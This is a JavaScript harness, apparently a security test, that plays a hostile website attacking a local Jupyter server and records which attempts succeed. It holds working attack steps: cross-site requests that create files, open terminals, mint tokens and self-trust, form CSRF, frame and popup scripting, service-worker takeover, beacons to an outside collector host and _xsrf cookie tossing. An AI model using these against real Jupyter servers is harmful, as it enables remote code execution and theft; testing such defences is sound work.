// What a site of a stranger would try. `attack(jupyter, collector)` tries all of it and says how far each got:
// `jupyter` is the base URL of the Jupyter server, `collector` a server of the stranger's.
window.attack = async (jupyter, collector) => {
  const results = {};
  const patient = (promise) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 4000, "nothing happened"))]);
  const attempt = async (name, action) => {
    try {
      results[name] = await patient(action());
    } catch (error) {
      results[name] = `refused: ${error.name}`;
    }
  };
  const xsrf = () => /(?:^|; )_xsrf=([^;]*)/.exec(document.cookie)?.[1] ?? "";
  const post = (path, body) =>
    fetch(`${jupyter}${path}`, {
      method: "POST",
      credentials: "include",
      headers: { "X-XSRFToken": xsrf(), "Content-Type": "application/json" },
      body,
    });

  results.ran = true;
  await attempt("cookies", async () => document.cookie);
  await attempt("read contents", async () => {
    const answer = await fetch(`${jupyter}api/contents`, { credentials: "include" });
    return answer.ok ? (await answer.text()).slice(0, 20) : `status ${answer.status}`;
  });
  await attempt("new file", async () => `status ${(await post("api/contents", '{"type": "file"}')).status}`);
  await attempt("terminal", async () => `status ${(await post("api/terminals", "{}")).status}`);
  await attempt("token", async () => `status ${(await post("pcw/api/tokens", "{}")).status}`);
  await attempt("trust itself", async () => `status ${(await post("pcw/api/sites/hostile/trust", "{}")).status}`);
  // A simple request needs no answer to the question whether it may be sent.
  await attempt("simple request", async () => {
    const answer = await fetch(`${jupyter}api/contents`, { method: "POST", mode: "no-cors", credentials: "include" });
    return answer.type;
  });
  await attempt("form", async () => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: `${jupyter}pcw/api/sites/hostile/trust`, target: "nowhere" });
    const frame = document.createElement("iframe");
    frame.name = "nowhere";
    document.body.append(frame, form);
    form.submit();
    return new Promise((resolve) => setTimeout(resolve, 1000, "sent"));
  });
  await attempt("page of Jupyter", async () => {
    const text = await (await fetch(`${jupyter}lab`, { credentials: "include" })).text();
    return text.includes("jupyter-config-data") ? "read" : "not read";
  });
  await attempt("frame", () => {
    const frame = document.createElement("iframe");
    frame.src = `${jupyter}tree`;
    document.body.append(frame);
    return new Promise((resolve, reject) => {
      frame.onload = () => {
        try {
          resolve(frame.contentDocument?.getElementById("jupyter-config-data") ? "scripted" : "empty");
        } catch (error) {
          reject(error);
        }
      };
    });
  });
  await attempt("popup", async () => {
    const popup = window.open(`${jupyter}tree`);
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const found = popup?.document?.getElementById("jupyter-config-data");
    popup?.close();
    return found ? "scripted" : "empty";
  });
  await attempt("worker over everything", async () => {
    const registration = await navigator.serviceWorker.register("sw.js", { scope: "/" });
    return registration.scope;
  });
  await attempt("foreign fetch", async () => (await fetch(`${collector}fetch`, { mode: "no-cors" })).type);
  await attempt(
    "foreign image",
    () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve("loaded");
        image.onerror = () => reject(new Error("blocked"));
        image.src = `${collector}image`;
      }),
  );
  document.cookie = "_xsrf=TOSSED; path=/";
  document.cookie = "_xsrf=TOSSED; path=/; domain=localhost";
  return results;
};
